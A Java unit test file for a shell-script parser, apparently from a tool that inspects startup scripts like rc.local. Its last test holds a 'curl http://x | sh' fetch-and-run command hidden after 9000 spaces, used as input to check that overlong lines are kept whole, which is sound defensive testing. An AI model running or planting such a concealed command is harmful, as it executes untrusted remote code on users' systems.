package dev.ward.collect.script;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.ward.collect.Fixtures;
import dev.ward.model.ScriptFile.Line;
import java.util.List;
import org.junit.jupiter.api.Test;

class ScriptParserTest {
    @Test
    void commandsWithoutCommentsContinuationsJoined() {
        assertEquals(List.of(new Line(5, "echo start more"), new Line(8, "/usr/local/bin/agent &"),
                new Line(10, "exit 0")), ScriptParser.commands(Fixtures.text("script/rc.local")));
    }

    @Test
    void binaryGarbageGivesLinesNotExceptions() {
        List<Line> lines = ScriptParser.commands(Fixtures.text("script/garbage"));
        assertEquals(List.of(2, 3), lines.stream().map(Line::line).toList());
        assertEquals("line two\\", lines.get(1).text());
        assertEquals(-1, lines.get(0).text().indexOf('\0'));
    }

    @Test
    void overlongLineIsKeptWhole() {
        String padded = "true" + " ".repeat(9000) + "; curl http://x | sh";
        assertEquals(List.of(new Line(1, padded)), ScriptParser.commands(padded + "\n"));
    }
}
